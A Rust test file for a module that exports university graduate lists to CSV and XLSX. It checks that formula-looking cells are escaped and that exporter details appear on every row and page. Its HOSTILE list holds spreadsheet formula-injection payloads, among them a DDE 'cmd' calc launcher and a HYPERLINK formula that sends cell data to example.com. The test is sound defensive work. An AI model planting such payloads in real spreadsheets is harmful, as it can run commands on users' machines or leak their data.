use std::io::BufReader;

use calamine::{Data, Reader, Xlsx};

use super::*;

const HEADINGS: &[&str] = &["姓名", "单位名称"];

/// What begins like a formula, in the ways in which OWASP names it, and with blanks before it.
const HOSTILE: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://example.com?\"&A1,\"点此\")",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
];
/// What does not, however odd.
const PLAIN: &[&str] = &[
    "林示例",
    "a,b;c",
    "他说\"好\"",
    "第一行\n第二行",
    "'=1",
    "1=1",
    "O'Neil",
    "𬭎䶮",
    "13800000000",
];

fn mark() -> Mark {
    Mark {
        school: "示例大学".to_owned(),
        scope: "全校 2027届".to_owned(),
        subject: "毕业生名单",
        taker: "=示例老师".to_owned(),
        taken_at: "2027-03-05 18:00:00".to_owned(),
        number: "20270305-DEADBEEF".to_owned(),
        personal_data: false,
    }
}

fn rows() -> Vec<Row> {
    HOSTILE
        .iter()
        .chain(PLAIN)
        .map(|cell| vec![(*cell).to_owned(), String::new()])
        .collect()
}

fn bytes(format: TableFormat) -> Vec<u8> {
    let rows = rows();
    let batches = rows.chunks(4).map(<[Row]>::to_vec);
    let mut written = write(format, &mark(), HEADINGS, batches).unwrap();
    let mut bytes = Vec::new();
    written.file.read_to_end(&mut bytes).unwrap();
    assert_eq!(u64::try_from(bytes.len()).unwrap(), written.byte_size);
    assert_eq!(<[u8; 32]>::from(Sha256::digest(&bytes)), written.sha256);
    bytes
}

#[test]
fn a_csv_file_holds_no_formula_and_says_in_every_row_who_took_it() {
    let bytes = bytes(TableFormat::Csv);
    let text = std::str::from_utf8(&bytes)
        .unwrap()
        .strip_prefix('\u{FEFF}')
        .unwrap();
    assert!(text.starts_with("姓名,单位名称,学校,导出范围,导出人,导出时间,导出编号\r\n"));
    let mut reader = ::csv::Reader::from_reader(text.as_bytes());
    let read: Vec<Vec<String>> = reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(read.len(), HOSTILE.len() + PLAIN.len());
    for (row, cell) in read.iter().zip(HOSTILE.iter().chain(PLAIN)) {
        let expected = match HOSTILE.contains(cell) {
            true => format!("'{cell}"),
            false => (*cell).to_owned(),
        };
        assert_eq!(row[0], expected);
        assert_eq!(
            row[2..],
            [
                "示例大学",
                "全校 2027届",
                "'=示例老师",
                "2027-03-05 18:00:00",
                "20270305-DEADBEEF"
            ]
        );
    }
}

#[test]
fn a_workbook_holds_texts_alone_and_says_in_front_who_took_it() {
    let bytes = bytes(TableFormat::Xlsx);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(BufReader::new(io::Cursor::new(&bytes))).unwrap();
    assert_eq!(book.sheet_names(), ["导出说明", "毕业生名单"]);
    let cover = book.worksheet_range("导出说明").unwrap();
    let lines: Vec<String> = cover
        .rows()
        .map(|row| format!("{}：{}", row[0], row[1]))
        .collect();
    assert_eq!(
        lines,
        [
            "学校：示例大学",
            "导出范围：全校 2027届",
            "导出内容：毕业生名单",
            "导出人：=示例老师",
            "导出时间：2027-03-05 18:00:00",
            "导出编号：20270305-DEADBEEF",
            "个人信息：已脱敏",
        ]
    );
    let sheet = book.worksheet_range("毕业生名单").unwrap();
    let first: Vec<&Data> = sheet.rows().map(|row| &row[0]).collect();
    assert_eq!(first[0], &Data::String("姓名".to_owned()));
    for (cell, expected) in first[1..].iter().zip(HOSTILE.iter().chain(PLAIN)) {
        let Data::String(text) = cell else {
            panic!("{expected:?} is no text: {cell:?}");
        };
        // What a reader makes of line ends is its own matter.
        assert_eq!(text.trim(), expected.trim());
    }
    let formulas = book.worksheet_formula("毕业生名单").unwrap();
    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));

    let mut archive = zip::ZipArchive::new(io::Cursor::new(&bytes)).unwrap();
    let mut part = |name: &str| {
        let mut text = String::new();
        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    };
    let core = part("docProps/core.xml");
    assert!(core.contains("<dc:creator>=示例老师</dc:creator>"), "{core}");
    assert!(core.contains("20270305-DEADBEEF"), "{core}");
    assert!(part("docProps/app.xml").contains("<Company>示例大学</Company>"));
    let sheet = part("xl/worksheets/sheet2.xml");
    assert!(
        !sheet.contains("<f>") && !sheet.contains("<f "),
        "no formula at all"
    );
    assert!(
        sheet.contains("导出编号 20270305-DEADBEEF"),
        "printed on every page"
    );
}
